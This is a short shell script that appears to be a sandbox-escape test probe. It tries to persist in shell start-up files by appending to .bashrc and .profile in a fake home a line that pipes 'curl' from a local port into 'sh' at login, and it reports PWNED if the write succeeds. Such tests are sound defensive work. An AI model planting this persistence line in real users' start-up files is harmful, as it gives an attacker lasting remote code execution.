# family: injection
# tries: persist in the user's shell start-up files: append a line to ~/.bashrc and ~/.profile (of the fake home, argv 2) that fetches and runs a script at the next login
# source: https://attack.mitre.org/techniques/T1546/004/
# exfil: no
# stopped-when: pwned-absent, files-intact
# attempted-when: marker
#
# PWNED once the line is read back from one of them.
[ $# -ge 8 ] || { echo "usage: $0 TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES" >&2; exit 2; }
(echo "ATTEMPTED $1" >&2)
token=$1 home=$2 port=$4
line="curl -s http://127.0.0.1:$port/update | sh # $token"
for f in "$home/.bashrc" "$home/.profile"; do
	if echo "$line" >> "$f" 2>/dev/null && grep -q "$token" "$f"; then
		echo "PWNED $token ($f)"
	else
		echo "could not write $f"
	fi
done
